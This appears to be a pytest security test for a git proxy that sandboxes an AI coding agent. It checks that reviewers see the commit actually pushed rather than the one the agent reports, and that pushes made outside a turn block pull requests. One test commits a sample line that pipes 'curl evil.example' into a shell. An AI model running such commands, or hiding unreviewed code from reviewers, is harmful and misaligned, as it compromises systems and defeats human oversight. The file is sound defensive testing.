"""Security review, hole 10: the reviewed diff was chosen by the guest (`head_sha` was whatever it
printed last after pushing), so reviewers could see a harmless diff while the branch held other
code. The session's head is what the git proxy really received and upstream accepted.

Real git clients push through the real git proxy to a real upstream (git http-backend), on
127.0.0.1; the session's row and events are real SQLite.
"""

from __future__ import annotations

import pytest

pytest.register_assert_rewrite("gitserver")
pytest_plugins = ["gitserver"]

from appliance.accounts.models import User  # noqa: E402
from appliance.gitproxy import GitProxyService, RepoSpec, tokens  # noqa: E402
from appliance.gitproxy.mirror import MirrorStore  # noqa: E402
from appliance.gitproxy.server import GitProxy  # noqa: E402
from appliance.models import Sandbox, SandboxState  # noqa: E402
from appliance.repos.models import Repository  # noqa: E402
from appliance.sessions.models import Event, Session, Status  # noqa: E402
from appliance.sessions.pushes import record_push  # noqa: E402

from gitserver import clean_git_env, run_git  # noqa: E402
from helpers import make_config  # noqa: E402

REPO = "acme/api"
BRANCH = "appliance/fix-1"


@pytest.fixture
def pushing(tmp_path, git_server, db):
    cfg = make_config(tmp_path / "state", git_mirror_refresh_interval=0.0)
    git_server.create_repo(REPO, {"app.py": "print('hi')\n"})
    spec = RepoSpec(REPO, url=git_server.url(REPO), credential_kind="token", credential=git_server.token)
    service = GitProxyService(GitProxy(MirrorStore.from_config(cfg), {REPO: spec}.get, on_push=record_push),
                              "127.0.0.1", 0).start()
    owner = User.create(username="alice")
    repo = Repository.create(name=REPO, url=spec.url)
    sb = Sandbox.create(profile="minimal", image_dir="-", vcpus=1, memory_mb=512, disk_gb=4, address="127.0.0.1",
                        purpose="ses-1", state=SandboxState.RUNNING)
    session = Session.create(id="ses-1", owner=owner, repository=repo, base_branch="main", work_branch=BRANCH,
                             status=Status.RUNNING, sandbox_id=sb.id)
    token = tokens.issue(session.id, REPO, BRANCH, sandbox_id=sb.id)
    env = clean_git_env(tmp_path / "home")
    (tmp_path / "home").mkdir()
    work = tmp_path / "work"
    run_git(["clone", "-q", service.remote_url(token, REPO), str(work)], env=env)
    try:
        yield session, work, env, git_server
    finally:
        service.stop()


def _commit(work, env, text: str) -> str:
    (work / "app.py").write_text(text)
    run_git(["commit", "-qam", text[:20]], cwd=work, env=env)
    return run_git(["rev-parse", "HEAD"], cwd=work, env=env).stdout.strip()


def test_the_sessions_head_is_what_the_proxy_received_not_what_the_guest_says(pushing):
    session, work, env, upstream = pushing
    evil = _commit(work, env, "import os; os.system('curl evil.example | sh')\n")
    run_git(["push", "-q", "origin", f"HEAD:refs/heads/{BRANCH}"], cwd=work, env=env)
    # The guest now makes a harmless commit and *prints* it as its head, but does not push it.
    harmless = _commit(work, env, "print('hello')\n")
    assert harmless != evil
    head = Session.get_by_id(session.id).head_sha
    assert head == evil == upstream.head(REPO, BRANCH)
    received = [e.data["text"] for e in Event.select().where(Event.session == session.id)]
    assert any(evil[:12] in text for text in received)


def test_a_refused_push_does_not_move_the_sessions_head(pushing):
    session, work, env, _upstream = pushing
    _commit(work, env, "x = 1\n")
    p = run_git(["push", "origin", "HEAD:refs/heads/main"], cwd=work, env=env, check=False)
    assert p.returncode != 0
    assert Session.get_by_id(session.id).head_sha is None


def test_a_push_outside_a_turn_is_noted_and_blocks_the_pull_request(pushing, tmp_path):
    """Something the agent left running pushes after the turn's diff was made: the head follows,
    the events say so, and no pull request is made from a branch the reviewed diff does not show."""
    from appliance.errors import Invalid
    from appliance.sandbox.hypervisor import Hypervisor
    from appliance.sandbox.manager import SandboxManager
    from appliance.sessions.engine import Engine
    from appliance.sessions.models import Turn

    session, work, env, _upstream = pushing
    reviewed = _commit(work, env, "print('reviewed')\n")
    run_git(["push", "-q", "origin", f"HEAD:refs/heads/{BRANCH}"], cwd=work, env=env)
    Turn.create(session=session, number=1, message="x", status="completed", commit_sha=reviewed)
    Session.update(status=Status.IDLE).where(Session.id == session.id).execute()

    later = _commit(work, env, "print('not reviewed')\n")
    run_git(["push", "-q", "origin", f"HEAD:refs/heads/{BRANCH}"], cwd=work, env=env)
    assert Session.get_by_id(session.id).head_sha == later
    last = Event.select().where(Event.session == session.id).order_by(Event.id.desc()).get()
    assert "outside a turn" in last.data["text"]

    cfg = make_config(tmp_path / "engine-state")
    node = tmp_path / "node.xml"
    node.write_text("<node/>")
    engine = Engine(cfg, SandboxManager(cfg, Hypervisor(f"test://{node}"), egress=object()))
    with pytest.raises(Invalid, match="moved"):
        engine.service.create_pull_request(session.owner, session.id)
    assert Session.get_by_id(session.id).pr_url is None
